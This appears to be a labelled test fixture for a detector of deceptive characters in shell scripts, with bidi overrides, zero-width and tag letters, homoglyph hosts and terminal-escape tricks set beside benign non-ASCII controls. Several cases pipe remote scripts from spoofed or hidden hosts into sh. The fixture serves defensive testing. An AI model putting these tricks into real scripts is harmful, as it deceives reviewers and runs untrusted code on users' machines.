### bidi-override: the line reads otherwise than it runs
user="‮nimda‬"
#@ 1 danger|caution

### bidi-isolate-comment: a comment that seems to end
#!/bin/bash
# ⁧check⁩ if the user may⁦
[ "$USER" = root ] || exit 1
#@ 2 danger|caution

### bidi-marks-in-test: a test that reads the other way
#!/bin/bash
level=user
if [ "$level" != "user‮⁦# only for admins⁩⁦" ]; then
    echo "you are an admin"
fi
#@ 3 danger|caution

### zero-width-name: a command with an invisible letter
#!/bin/bash
tar​ -czf out.tgz src
#@ 2 danger|caution

### zero-width-path: a path that only looks like another
rm -rf ./bu​ild
#@ 1 danger|caution

### word-joiner-url: an address with an invisible letter
curl -fsS "https://api.exam⁠ple.org/v1/ping"
#@ 1 danger|caution

### cyrillic-host: a host with a foreign letter
git clone https://gіthub.com/team/app.git
#@ 1 danger|caution

### cyrillic-host-run: and its script run
curl -fsSL https://рypi.org/install.sh | sh
#@ 1 danger

### cyrillic-command: a command with a foreign letter
sуstemctl restart nginx
#@ 1 danger|caution

### greek-option: a host with a Greek letter
ssh deploy@web1.gοogle.com uptime
#@ 1 danger|caution

### escape-hides: a raw escape that wipes the line on a terminal
curl -s https://x.example.org/p | sh #[2K[1A
#@ 1 danger

### escape-in-comment: a raw escape in a comment
#!/bin/sh
# build[8m hidden [0m
make
#@ 2 danger|caution

### nbsp-blank: a blank that is none
rm -rf ./build
#@ 1 danger|caution

### carriage-return-hides: what follows covers the line
curl -s https://x.example.org/p | sh #echo building the project ...
#@ 1 danger

### tag-letters: letters that nobody sees
#!/bin/bash
note="release󠁲󠁭󠀠󠀭󠁲󠁦"
echo "$note"
#@ 2 danger|caution

### soft-hyphen-host: an invisible hyphen in a host
wget https://downloads.exam­ple.org/data.csv
#@ 1 danger|caution

### fullwidth-host: letters of double width in a host
curl -O https://www.ｅxample.org/data.csv
#@ 1 danger|caution

### emoji-family: joined emoji in a message
echo "Team 👨‍👩‍👧 built it 🚀"

### arabic-words: words that run the other way, without controls
echo "مرحبا שלום"

### umlauts: letters of other languages
#!/bin/sh
# Prüft die Größe der Datei und räumt auf.
echo "Größe: $(stat -c %s "$1")"
printf '%s\n' "文件已备份" "Готово"

### russian-comment: a comment in Russian
#!/bin/bash
# Очистка старых сборок
rm -rf ./build

### ansi-colors: colours spelled out
#!/bin/bash
red=$'\e[31m'; reset='\033[0m'
printf '%sfailed%b\n' "$red" "$reset"
echo -e "\033[1;32mok\033[0m"
printf '\r\033[2Kprogress %d%%' 50
printf '\033]0;%s\007' "building"

### box-drawing: lines and ticks
printf '%s\n' "┌──┐ ✓ done … 100 %"

### accents-in-path: a path with accents
mv "Café menü.txt" "./archive/café-menu.txt"

### idn-host: a host in its own language, whole
curl -fsS https://münchen.example.org/status

### bom-first: a mark at the very start
﻿echo "saved on another system"

### persian-joiner: a joiner that the language needs
echo "می‌خواهم"

### words-hidden: the escapes as words
grep -nP '[\x{202A}-\x{202E}\x{2066}-\x{2069}]' ./*.sh || echo "no bidi controls"; printf '%s\n' 'U+200B'
